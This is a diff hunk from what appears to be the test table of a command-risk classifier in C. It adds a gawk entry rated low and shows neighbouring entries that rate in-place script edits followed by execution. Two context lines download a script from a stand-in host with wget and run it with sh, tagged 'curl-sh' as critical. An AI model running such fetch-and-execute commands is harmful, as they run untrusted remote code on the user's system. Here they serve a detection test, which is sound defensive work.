@@ -3918,6 +3918,7 @@ file_scripts(void)
 		{ "sed -i -f edits.sed s.sh; sh s.sh", H, NULL },
 		{ "perl -pi -e 's/a/b/' s.sh; sh s.sh", H, NULL },
 		{ "gawk -i inplace '{print}' s.sh; sh s.sh", H, NULL },
+		{ "gawk -i lib.awk '{print}' s.sh; sh s.sh", L, NULL },
 		/* wget -P DIR, curl --output-dir DIR: DIR/the URL's name */
 		{ "wget -P /tmp https://x/i.sh; sh /tmp/i.sh", C, "curl-sh" },
 		{ "wget -qP/tmp https://x/i.sh; sh /tmp/i.sh", C, "curl-sh" },
